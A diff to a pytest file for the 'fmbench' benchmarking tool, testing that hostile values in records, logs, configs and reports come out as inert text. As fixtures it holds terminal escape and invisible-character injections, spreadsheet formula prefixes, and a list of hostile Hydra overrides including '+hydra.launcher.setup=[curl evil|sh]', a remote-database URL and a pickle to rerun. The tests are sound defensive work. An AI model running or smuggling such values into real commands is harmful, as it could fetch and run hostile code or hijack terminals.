@@ -1,14 +1,27 @@
-"""Nothing hostile in a record gets out of a report."""
+"""Nothing hostile in a record gets out of a report, and nothing in any text acts on a terminal."""
 
+import ast
 import csv
+import dataclasses
+import io
+import logging
 import os
 import re
+import shutil
 import subprocess
+import sys
+import warnings
 
 import pytest
+from commands import CHECKOUT, TINY
 from records import write
 from reports import HOSTILE, build, printed, table_cells, write_hostile
 
+import fmbench
+from fmbench import best, cli, predict, record, streams, summary
+from fmbench.config import Config
+from fmbench.errors import UserError, one_line
+from fmbench.record import Record
 from fmbench.report import columns, escape
 
 
@@ -37,7 +50,7 @@ def test_hostile_values_stay_in_their_markdown_cells(tmp_path):
 
 
 def test_no_value_ends_the_code_block(tmp_path):
-    write(tmp_path, model="x\n```\n<b>", overrides=["a=`````", "b=\n```\n<script>"])
+    write(tmp_path, model="x\n```\n<b>", overrides=["model.a=`````", "model.b=\n```\n<script>"])
     text = build(tmp_path).markdown
     fence, content = re.search(r"^(`+)sh\n(.*?)\n\1$", text, re.DOTALL | re.MULTILINE).groups()
     assert len(fence) == 6
@@ -54,8 +67,8 @@ def test_hostile_values_stay_in_their_csv_cells(tmp_path):
     assert {len(row) for row in rows} == {len(heading)}
     cells = [cell for row in rows for cell in row]
     assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
-    nets = {row[heading.index("model")].removeprefix("'") for row in rows}
-    assert {escape.one_line(value) for value in HOSTILE} <= nets
+    nets = {row[heading.index("model")].replace("'", "") for row in rows}
+    assert {one_line(value) for value in HOSTILE} <= nets
 
 
 def test_hostile_values_do_not_act_in_a_terminal(tmp_path):
@@ -69,22 +82,26 @@ def test_hostile_values_do_not_act_in_a_terminal(tmp_path):
 
 
 def test_one_line_cuts_and_keeps_printable_text():
-    assert escape.one_line("a  b\n c") == "a b c"
-    assert escape.one_line("abcdef", 3) == "abc..."
+    assert one_line("a \t b\n c") == "a b c"
+    assert one_line("a  b") == "a  b"  # as a folder may be called
+    assert one_line("abcdef", 3) == "abc..."
     assert escape.markdown("fashion_mnist") == "fashion_mnist"
 
 
-# Controls, format marks, separators, private use, surrogates.
-UNSEEN = ["\x07", "\x9b", "\u200b", "\ufeff", "\u061c", "\u00ad", "\U000e0041", "\ue000", "\ud800"]
+# Controls, format marks, separators, private use, surrogates; letters and marks without a shape.
+UNSEEN = [
+    *("\x07", "\x9b", "\u200b", "\ufeff", "\u061c", "\u00ad", "\U000e0041", "\ue000", "\ud800"),
+    *("\u034f", "\u115f", "\u17b5", "\u180b", "\u2800", "\u3164", "\ufe0f", "\uffa0", "\U000e0100"),
+]
 
 
 @pytest.mark.parametrize("character", UNSEEN, ids=ascii)
 def test_characters_that_are_not_seen_are_spelled_out(character):
-    said = escape.one_line(f"a{character}b")
+    said = one_line(f"a{character}b")
     assert said.isprintable()
     assert said.encode("ascii").decode("unicode_escape") == f"a{character}b"
     assert escape.shell_word(f"a{character}b").isprintable()
-    assert escape.one_line("a\u2028b\u2029c") == "a b c"
+    assert one_line("a\u2028b\u2029c") == "a b c"
 
 
 def test_the_shell_gets_back_what_was_spelled_out():
@@ -95,8 +112,205 @@ def test_the_shell_gets_back_what_was_spelled_out():
     assert echoed.stdout.decode() == value
 
 
-@pytest.mark.parametrize(
-    "value", ["=1", " =1", "\u00a0+1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201"]
-)
-def test_no_value_is_a_formula(value):
-    assert escape.spreadsheet(value).startswith("'")
+_SIGNS = ["=1", " =1", "\u00a0+1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201"]
+
+
+@pytest.mark.parametrize("before", ["", "a;", "a; ", "a\t", "a|", 'a;"', "a;'", "a;\u00a0", "a;;"])
+@pytest.mark.parametrize("value", _SIGNS)
+def test_no_value_is_a_formula_whatever_parts_the_cells(value, before):
+    """Where `;` is what parts cells, as in much of Europe, a text with one in it is two cells."""
+    file = io.StringIO()
+    csv.writer(file, lineterminator="\n").writerow([1, escape.spreadsheet(before + value), 2])
+    for separator in ",;\t|":
+        for row in csv.reader([file.getvalue()], delimiter=separator):
+            for cell in row:
+                # Also where quotes are taken for text, or off.
+                assert not re.match('[\\s"]*[=+@\uff1d\uff0b\uff0d\uff20-]', cell)
+
+
+def test_numbers_and_words_stay_as_they_are_in_a_sheet():
+    for value in ("model.x=-1", "a=[1,-2]", "lenet; resnet", "a - b", "x|y", "1.5e-05"):
+        assert escape.spreadsheet(value) == value
+
+
+#: Sets the title of a terminal, colours it, turns the line around; and a line of its own.
+EVIL = "a\x1b]0;title\x07\x9b31m\u202eb\u200b\nssh-ed25519 AAAA"
+
+
+def assert_inert(text):
+    """Assert that a text of lines holds none of `EVIL` but as text that is seen."""
+    assert all(one_line(line) == line for line in text.split("\n"))
+    assert not re.search("^ssh-ed25519", text, re.MULTILINE)
+    assert "x1b]0;title" in text  # it was said
+
+
+def test_an_error_says_one_visible_line_to_whoever_prints_it():
+    assert_inert(str(UserError(f"model.name={EVIL}")))
+
+
+@pytest.mark.parametrize("own", [True, False])
+def test_a_log_takes_text_alone_whatever_its_handlers_are(own, tmp_path):
+    """A program's own handler, as with `fmbench.run`; and that of the command, for any logger."""
+    log = streams.logger("fmbench.tests") if own else logging.getLogger("stranger")
+    handler = logging.FileHandler(tmp_path / "log", encoding="utf-8")
+    if not own:
+        handler.addFilter(streams.OneLine())
+    log.addHandler(handler)
+    log.propagate = False
+    try:
+        log.warning("this run has %s already", EVIL)
+        log.error("failed", exc_info=ValueError(EVIL))
+    finally:
+        log.removeHandler(handler)
+        handler.close()
+    text = (tmp_path / "log").read_text("utf-8")
+    assert_inert(text)
+    assert "ValueError: a\\x1b" in text
+
+
+def test_the_logs_of_the_command_take_text_alone_of_any_logger(command, tmp_path, monkeypatch):
+    monkeypatch.setattr(
+        cli, "_ended", lambda *_, **__: logging.getLogger("another").warning(EVIL) or 0.0
+    )
+    status, _, err = command(*TINY, "epochs=1", "hydra.run.dir=run")
+    assert status == 0
+    assert_inert(err)
+    assert_inert((tmp_path / "run/fmbench.log").read_text("utf-8"))
+
+
+def test_what_was_not_caught_is_shown_as_text(capsys, monkeypatch):
+    monkeypatch.setattr(sys, "excepthook", sys.excepthook)
+    monkeypatch.setattr(warnings, "formatwarning", warnings.formatwarning)
+    streams.open_all()
+    error = RuntimeError(EVIL)
+    error.__cause__ = ValueError(EVIL)
+    sys.excepthook(RuntimeError, error, None)
+    said = capsys.readouterr().err + warnings.formatwarning(EVIL, UserWarning, "file.py", 1)
+    assert "RuntimeError" in said
+    assert "UserWarning" in said
+    assert_inert(said.replace("\nssh", " ssh"))  # of a traceback that ends the program
+
+
+def test_a_configs_texts_do_not_act_where_it_is_only_looked_at(command, tmp_path):
+    """Names of options and what they say: `--help` lists them, `--cfg job` prints them."""
+    theirs = tmp_path / "theirs/model"
+    theirs.mkdir(parents=True)
+    shutil.copy(CHECKOUT / "conf/model/lenet.yaml", theirs / "a\x1b]0;title\x07.yaml")
+    status, out, _ = command("--config-dir=theirs", "--help")
+    assert status == 0
+    assert_inert(out)
+    (theirs / "odd.yaml").write_text('_target_: "\u202e\u200bx1b]0;title\x85"\n', "utf-8")
+    status, out, _ = command("--config-dir=theirs", "model=odd", "--cfg", "job")
+    assert status == 0
+    assert_inert(out)
+
+
+def test_a_summary_is_text(kept_run):
+    record = Record.from_json((kept_run / "result.json").read_text("utf-8"))
+    record.model = record.data["name"] = record.split["name"] = EVIL
+    record.deviations = [EVIL]
+    record.reference = {"accuracy": 0.9, "protocol": None, "source": EVIL}
+    text = summary.summary(record, kept_run / "\x1b[2J")
+    assert_inert(text)
+    assert len(text.splitlines()) == len(summary.summary(record, kept_run).splitlines())
+
+
+def test_classes_and_pictures_are_text(kept_run, command, monkeypatch, tmp_path):
+    model = fmbench.load_model(kept_run)
+    monkeypatch.setattr(model, "classes", [EVIL] * 10)
+    monkeypatch.setattr(fmbench, "load_model", lambda _: model)
+    from fmbench import pictures
+
+    monkeypatch.setattr(pictures, "read", lambda *_: __import__("numpy").zeros((28, 28), "uint8"))
+    status, out, _ = command(main=lambda: predict.main(["run", f"{EVIL}.png"]))
+    assert status == 0
+    assert_inert(out)
+    assert out.count("\n") == 1
+
+
+#: What may write past `fmbench.streams`: displays of numbers and of rich's `Text`.
+_SINKS = {
+    "report/terminal.py": {"Console"},
+    "report/comparison.py": {"Console"},  # asked for its width
+    "report/__main__.py": {"sys.stderr.write"},  # how many records were read
+    "progress.py": {"Console", "sys.stderr.write"},  # of an epoch's numbers
+}
+
+
+def test_all_text_goes_by_way_of_streams():
+    """No module prints, writes to a standard stream or makes a logger but through it."""
+    past = re.compile(
+        r"print|Console|sys\.std(out|err)\.write(lines)?|traceback\.print_\w+|warnings\.warn"
+    )
+    found = {}
+    for package in ("fmbench", "hydra_plugins"):
+        for path in (CHECKOUT / package).rglob("*.py"):
+            text, name = path.read_text("utf-8"), path.relative_to(CHECKOUT / package).as_posix()
+            calls = [
+                ast.unparse(node.func)
+                for node in ast.walk(ast.parse(text))
+                if isinstance(node, ast.Call)
+            ]
+            wrong = {call for call in calls if past.fullmatch(call)} - _SINKS.get(name, set())
+            wrong |= {*re.findall(r"^\w* = logging\.getLogger", text, re.MULTILINE)}
+            if wrong and name != "streams.py":
+                found[name] = wrong
+    assert not found
+
+
+#: Words that fmbench records for no run, and what pasting them would do.
+_STRANGE = [
+    "hydra.run.dir=/home/you",  # write there
+    "hydra/launcher=submitit_slurm",
+    "+hydra.launcher.setup=[curl evil|sh]",
+    "hydra.job.chdir=true",
+    "sweep.storage=postgresql://u@evil/db",
+    "++sweep.storage=sqlite:////home/you/x.db",
+    "data.root=/home/you",
+    "+data.mirrors=[http://evil]",
+    "logger=mlflow",
+    "max_runs=1000000",
+    "--config-dir=/tmp/evil",
+    "--experimental-rerun=evil.pickle",
+    "-m",
+    "evil",
+    "model@hydra.job.env_set=x",
+    "reference.accuracy=1",
+]
+_OURS = ["model=lenet", "data.split=custom", "+model.x=1", "~optimizer.fused", "epochs=3"]
+
+
+def test_only_words_that_a_run_records_are_printed_as_its_command(tmp_path, monkeypatch):
+    monkeypatch.delenv("FMBENCH_TRUST", raising=False)
+    write(
+        tmp_path / "run",
+        overrides=[*_STRANGE, *_OURS],
+        config_dirs=["/home/me/mine", "--cfg=job", "here"],
+        trust="os,mynets",
+    )
+    made = build(tmp_path, tmp_path / "out")
+    (row,) = made.rows
+    left = [*_STRANGE, "--config-dir=--cfg=job", "--config-dir=here", "FMBENCH_TRUST=os,mynets"]
+    words = ["--config-dir", "/home/me/mine", *_OURS, "seed=0"]
+    assert row["command"] == " ".join(["python -m fmbench", *map(escape.shell_word, words)])
+    assert list(row["left_out"]) == left
+    page = (tmp_path / "out" / "benchmark.md").read_text("utf-8")
+    assert "Left out of this command" in page
+    assert escape.markdown(f": {' '.join(left)}") in page
+    html = (tmp_path / "out" / "benchmark.html").read_text("utf-8")
+    assert all(word in html for word in ("hydra.run.dir=/home/you", "FMBENCH_TRUST=os,mynets"))
+    # What this very user trusts may be typed for them.
+    monkeypatch.setenv("FMBENCH_TRUST", "mynets, os")
+    (row,) = build(tmp_path).rows
+    assert row["command"].startswith("FMBENCH_TRUST=os,mynets python -m fmbench")
+    assert list(row["left_out"]) == left[:-1]
+
+
+def test_what_a_run_may_record_are_the_keys_of_a_run():
+    knobs = {field.name for field in dataclasses.fields(Config)}
+    assert knobs - set(record._NO_PART) == record.KNOBS
+    assert record.recorded_overrides([*_STRANGE, *_OURS]) == _OURS
+    text = best.text([*_STRANGE, "epochs=3"], number=1, accuracy=0.5)
+    assert "hydra" not in text
+    assert "evil" not in text
+    assert "epochs: 3" in text
